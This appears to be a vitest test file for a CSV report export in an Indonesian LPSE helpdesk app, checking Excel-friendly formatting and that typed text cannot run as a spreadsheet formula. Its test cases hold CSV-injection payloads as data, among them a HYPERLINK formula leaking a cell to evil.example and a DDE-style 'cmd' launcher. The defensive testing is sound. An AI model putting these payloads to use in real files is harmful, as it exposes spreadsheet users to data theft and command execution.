// The CSV export opened in Excel with Indonesian regional settings (fields split on `;`, `,` the decimal
// mark): in columns, figures as numbers, and text someone typed shown, never run as a formula, whether the
// reader splits on `;` or on `,`.
import { describe, expect, it } from 'vitest';
import { reportCsv, csvCell } from '../../hub/reports/exports';
import type { Report, TicketFigures } from '../../shared/domain/report';
import { computeIkm, SKM_ELEMENTS } from '../../shared/domain/skm';
import { csvRecords, parseCsvTables } from '../helpers/reports';

const NO_TIMES = { avg: null, p50: null, p90: null };
const figures = (issued: number): TicketFigures => ({ issued, served: issued, noShow: 0, cancelled: 0, expired: 0, transferred: 0, wait: NO_TIMES, service: NO_TIMES });

/** A day's report: `modules` are the SPSE modules the intakes recorded, one case each; 100 survey answers. */
function report(modules: string[]): Report {
  return {
    from: '2026-11-24',
    to: '2026-11-24',
    office: 'LPSE Kota Batam',
    headName: '',
    headNip: '',
    tickets: figures(3),
    byService: [],
    byCounter: [],
    byOfficer: [],
    perHour: [],
    perDay: [{ day: '2026-11-24', issued: 3, served: 3 }],
    waitDistribution: [0, 0, 0, 0, 0, 0],
    cases: {
      opened: modules.length,
      resolvedAtHelpdesk: 0,
      escalated: 0,
      escalatedCoordinator: 0,
      escalatedLkpp: 0,
      reported: 0,
      closed: 0,
      openAtEnd: modules.length,
      openByAge: [modules.length, 0, 0, 0],
      timeToClose: NO_TIMES,
    },
    byCategory: [],
    byVisitorType: [],
    byModule: modules.map((key) => ({ key, count: 1 })),
    // Every element averaging 3.31: an IKM of 82.75.
    ikm: computeIkm({ count: 100, sums: Object.fromEntries(SKM_ELEMENTS.map((u) => [u, 331])) as Record<(typeof SKM_ELEMENTS)[number], number> }),
  };
}

const tableOf = (csv: string, title: string) => parseCsvTables(csv).find((t) => t.title === title);

/** Starts a formula when a spreadsheet reads it as a field: `=`, `+`, `-`, `@` (maybe after spaces), tab, CR. */
const formulaLike = (field: string) => /^[ \t]*[=+\-@]|^[\t\r]/.test(field);

/** Every field a reader could make of the CSV: split on `;` or on `,`, honouring the quotes or not. */
function everyReading(csv: string): string[] {
  const text = csv.replace(/^\uFEFF/, '');
  const quoted = [...csvRecords(text, ';'), ...csvRecords(text, ',')].flat();
  const naive = text.split(/[;,\r\n]/).map((piece) => piece.replace(/^"/, ''));
  return [...quoted, ...naive];
}

describe('the CSV export', () => {
  it('is a UTF-8 byte-order mark, then `;`-separated records, with no `sep=` line', () => {
    const csv = reportCsv(report([]), 'id');
    expect(csv.startsWith('\uFEFFLaporan Layanan\r\n')).toBe(true);
    expect(csv).not.toMatch(/sep=/i);
    expect(tableOf(csv, 'Laporan Layanan')?.rows).toEqual([
      ['Kantor', 'LPSE Kota Batam'],
      ['Periode', '2026-11-24 – 2026-11-24'],
    ]);
    const tickets = tableOf(csv, 'Antrian');
    expect(tickets?.header).toEqual([
      'Diambil', 'Dilayani', 'Tidak hadir', 'Dibatalkan', 'Kedaluwarsa', 'Dialihkan',
      'Tunggu rata-rata (menit)', 'Tunggu median (menit)', 'Tunggu persentil 90 (menit)',
      'Layanan rata-rata (menit)', 'Layanan median (menit)', 'Layanan persentil 90 (menit)',
    ]);
    expect(tickets?.rows).toEqual([['3', '3', '0', '0', '0', '0', '', '', '', '', '', '']]);
  });

  it('writes a figure with decimals with a decimal comma, whole figures as they are', () => {
    const csv = reportCsv(report([]), 'id');
    expect(tableOf(csv, 'Indeks Kepuasan Masyarakat (IKM)')?.rows).toEqual([['82,75', 'B', '100']]);
    // Quoted, so a reader splitting on `,` keeps it one field too.
    expect(csv).toContain('"82,75";B;100\r\n');
    expect(csvCell(-1.5)).toBe('"-1,5"');
    expect(csvCell(1234)).toBe('1234');
  });

  // Each typed SPSE module in the cases-by-module table: one cell of its own (the count beside it), shown as
  // text, and no reading of the file, on `;` or `,`, with or without the quotes, starts a formula.
  it.each([
    ['SPSE;=1+1', "SPSE;'=1+1"],
    ['a,=1+1', "a,'=1+1"],
    ['=cmd', "'=cmd"],
    ['+1', "'+1"],
    ['@x', "'@x"],
    ['-2+3', "'-2+3"],
    ['  =1+1', "'  =1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['SPSE; \t-1', "SPSE;' \t-1"],
    ['SPSE\r\n@x', "SPSE\r\n'@x"],
    ['=HYPERLINK("http://evil.example/?"&A1;"klik")', `'=HYPERLINK("http://evil.example/?"&A1;"klik")`],
  ])('shows the typed text %j as text in its own cell', (typed, shown) => {
    const csv = reportCsv(report([typed, 'SPSE Penyedia']), 'id');
    expect(tableOf(csv, 'Kasus per modul SPSE')?.rows).toEqual([
      [shown, '1'],
      ['SPSE Penyedia', '1'],
    ]);
    expect(everyReading(csv).filter(formulaLike)).toEqual([]);
  });
});

describe('a CSV field', () => {
  it('is quoted when it holds a separator, a quote or a line break, so no reader splits it', () => {
    expect(csvCell('SPSE;=1+1')).toBe(`"SPSE;'=1+1"`);
    expect(csvCell('a,=1+1')).toBe(`"a,'=1+1"`);
    expect(csvCell('A; B')).toBe('"A; B"');
    expect(csvCell('A, B')).toBe('"A, B"');
    expect(csvCell('Kata "SPSE"')).toBe('"Kata ""SPSE"""');
    expect(csvCell('SPSE\r\n=1')).toBe(`"SPSE\r\n'=1"`);
  });

  it('shows typed text that starts like a formula as text', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1;"klik")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1;""klik"")"`);
    expect(csvCell("@SUM(1+1)*cmd|' /C calc'!A0")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvCell('=cmd')).toBe("'=cmd");
    expect(csvCell('+62 812')).toBe("'+62 812");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('\tSPSE')).toBe("'\tSPSE");
    expect(csvCell('  =1+1')).toBe("'  =1+1");
  });

  it('leaves numbers, plain text and empty cells as they are', () => {
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('SPSE Penyedia')).toBe('SPSE Penyedia');
    expect(csvCell('0–4')).toBe('0–4');
    expect(csvCell(null)).toBe('');
  });
});
